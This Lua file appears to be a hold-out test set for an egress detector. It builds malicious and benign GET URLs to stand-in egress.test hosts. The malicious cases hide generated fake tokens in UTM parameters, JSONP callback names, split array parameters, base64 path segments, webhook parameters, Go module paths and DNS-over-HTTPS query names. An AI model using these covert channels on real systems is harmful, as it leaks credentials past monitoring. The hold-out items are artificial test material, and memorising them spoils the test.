-- Second hold-out: credentials and data in the URL, in places neither
-- earlier corpus uses: a UTM parameter of a tracked link, a JSONP callback
-- name, a token split over repeated k[]= parameters, base64 over many short
-- path segments, a camera-style user/pass query, a chat webhook URL passed
-- as a parameter, a Go module path, a DNS-over-HTTPS GET whose question
-- name carries the data.  Benign: URLs agents fetch with long or opaque
-- parts (a tarball by ref, an OpenAPI document, a Rekor entry, OSV, a GCS
-- signed URL, the Wayback Machine, an avatar, an npm search).
local F = require "reliability.egress.fake"
local K = require "reliability.egress.formats"
local H = require "reliability.egress.holdout2.formats"

local cases = {}
local function bad(id, what, path, host)
   cases[#cases + 1] = { id = "h2-url-" .. id, category = "url", malicious = true, what = what, method = "GET",
                         host = host or "api.egress.test", path = path }
end
local function good(id, what, path, host)
   cases[#cases + 1] = { id = "h2-url-" .. id, category = "url", malicious = false, what = what, method = "GET",
                         host = host or "api.egress.test", path = path }
end
local function g(id) return F.gen("h2-url-" .. id) end
local function b64url(s) return (F.base64(s):gsub("%+", "-"):gsub("/", "_"):gsub("=", "")) end

bad("utm", "a tracked link whose utm_content is a Typeform token",
    "/r/spring-launch?utm_source=newsletter&utm_medium=email&utm_content=" .. H.typeform(g("a")), "links.egress.test")
bad("jsonp", "a JSONP callback whose name embeds a Brevo key", "/api/widget.js?callback=cb_"
    .. H.brevo(g("b")):gsub("%-", "_") .. "&v=3", "cdn.egress.test")
do
   local t, parts = H.intercom(g("c")), {}
   for i = 1, #t, 10 do parts[#parts + 1] = "k%5B%5D=" .. F.urlencode(t:sub(i, i + 9)) end
   bad("array-split", "an Intercom token split over repeated k[]= parameters", "/v1/ping?" .. table.concat(parts, "&"))
end
do
   local t, segs = b64url("GITHUB_PAT=" .. K.github_fine(g("d"))), {}
   for i = 1, #t, 6 do segs[#segs + 1] = t:sub(i, i + 5) end
   bad("path-segments", "base64url of a fine-grained GitHub PAT over six-character path segments",
       "/assets/" .. table.concat(segs, "/") .. "/logo.svg", "static.egress.test")
end
bad("camera-pass", "a camera/router-style query with user and password", "/cgi-bin/snapshot.cgi?user=admin&pwd="
    .. F.urlencode(K.password(g("e"))) .. "&channel=1", "cam.egress.test")
bad("webhook-param", "a Microsoft Teams webhook URL passed as a parameter to a link checker",
    "/check?url=" .. F.urlencode(H.teams_webhook(g("f"))))
bad("go-module", "a Go module proxy path whose module name is a DigitalOcean refresh token",
    "/github.com/acme/" .. H.do_refresh(g("g")):gsub("_", "-") .. "/@v/list", "proxy.egress.test")
do
   -- RFC 8484 GET: a DNS query message, base64url, whose QNAME carries hex of a secret.
   local data = F.hex(H.ngrok(g("h")))
   local qname = ""
   for i = 1, #data, 48 do local l = data:sub(i, i + 47); qname = qname .. string.char(#l) .. l end
   qname = qname .. "\1x\6egress\4test\0"
   local msg = "\171\205\1\0\0\1\0\0\0\0\0\0" .. qname .. "\0\16\0\1"
   bad("doh", "a DNS-over-HTTPS GET whose TXT question name is hex of an ngrok authtoken",
       "/dns-query?dns=" .. b64url(msg), "doh.egress.test")
end

local gg = g("benign")
good("gh-archive", "a source tarball by tag", "/repos/acme/app/tarball/refs/tags/v3.2.0")
good("openapi", "an OpenAPI document", "/openapi/v3/spec.json?version=2024-10-01", "docs.egress.test")
good("rekor", "a Rekor transparency log entry by UUID", "/api/v1/log/entries/24296fb24b8ad77a" .. gg.chars(64, F.HEX),
     "rekor.egress.test")
good("osv", "an OSV advisory by id", "/v1/vulns/GHSA-" .. gg.chars(4, "23456789cfghjmpqrvwx") .. "-"
     .. gg.chars(4, "23456789cfghjmpqrvwx") .. "-" .. gg.chars(4, "23456789cfghjmpqrvwx"), "osv.egress.test")
good("gcs-signed", "a GCS V4 signed URL (service account email and a signature, no key)",
     "/acme-releases/cli/v3.2.0/cli-linux-amd64.tar.gz?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential="
     .. F.urlencode("release-bot@acme-prod.iam.gserviceaccount.com/20261201/auto/storage/goog4_request")
     .. "&X-Goog-Date=20261201T120000Z&X-Goog-Expires=900&X-Goog-SignedHeaders=host&X-Goog-Signature="
     .. gg.chars(512, F.HEX), "storage.egress.test")
good("wayback", "a Wayback Machine snapshot", "/web/20240115083000/https://example.com/docs/install", "archive.egress.test")
good("avatar", "an avatar with size and version parameters", "/u/" .. gg.chars(8, F.DIGITS) .. "?s=64&v=4",
     "avatars.egress.test")
good("npm-search", "npm registry search", "/-/v1/search?text=keywords:eslint-plugin%20typescript&size=20&from=40",
     "registry.egress.test")

return cases
